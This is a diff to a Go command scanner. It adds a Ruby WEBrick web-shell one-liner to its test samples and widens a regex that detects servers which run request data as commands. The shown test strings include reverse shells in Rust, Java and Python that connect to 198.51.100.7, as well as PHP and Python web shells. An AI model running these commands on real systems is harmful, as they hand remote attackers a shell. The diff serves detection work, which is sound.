@@ -21,6 +21,7 @@ E
 zig run z.zig`,
 		`mkdir -p src; echo 'use std::net::TcpStream; fn main() { let f = TcpStream::connect("198.51.100.7:1").unwrap().into_raw_fd(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(f) }).status(); }' > src/main.rs; cargo run`,
 		`echo 'class A { public static void main(String[] a) throws Exception { var p = new ProcessBuilder("/bin/sh").start(); var s = new java.net.Socket("198.51.100.7", 9); s.getInputStream().transferTo(p.getOutputStream()); } }' > A.java && javac A.java && java A`,
+		"ruby -rwebrick -e 's=WEBrick::HTTPServer.new(Port:80);s.mount_proc(\"/\"){|q,r| r.body=`#{q.query[\"c\"]}`};s.start'",
 		`php -S 0.0.0.0:80 <(echo '<?php system($_GET[0]);')`,
 		`python3 -c "import http.server as h,subprocess as p;h.HTTPServer(('',80),type('X',(h.BaseHTTPRequestHandler,),{'do_GET':lambda r:r.wfile.write(p.getoutput(r.path[1:]).encode())})).serve_forever()"`), lines(coi.Critical,
 		`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
@@ -120,7 +121,7 @@ var requestRun = regexp.MustCompile(`(?is)(?:<\?(?:php|=)?.*\b(?:system|exec|pas
 var servers = []string{"createserver(", "flask(", "http.server", "basehttprequesthandler", "webrick", "sinatra", "express()", "fastapi(", "bottle", "aiohttp", "bun.serve", "deno.serve", "http.listenandserve"}
 
 // runsRequest is a program started with a part of a request.
-var runsRequest = regexp.MustCompile(`(?:popen|system|exec(?:sync|file)?|getoutput|check_output|spawn(?:sync)?|shell_exec|exec\.command|subprocess\.(?:run|call))\([^;]{0,80}(?:request\.|req(?:uest)?\.(?:url|query|body|path|params)|\.url\b|self\.path|self\.rfile|\b[a-z]\.(?:path|url|body|query)\b|\.query|params\[|args\[|args\.get)`)
+var runsRequest = regexp.MustCompile(`(?:popen|system|exec(?:sync|file)?|getoutput|check_output|spawn(?:sync)?|shell_exec|exec\.command|subprocess\.(?:run|call))\([^;]{0,80}(?:request\.|req(?:uest)?\.(?:url|query|body|path|params)|\.url\b|self\.path|self\.rfile|\b[a-z]\.(?:path|url|body|query)\b|\.query|params\[|args\[|args\.get)|` + "[`]" + `[^;]{0,40}#\{[^}]{0,20}\.(?:query|params|path|body|url)`)
 
 // webShell is a page written to a file that hands requests to a shell.
 func webShell(s *command.Simple) *Finding {
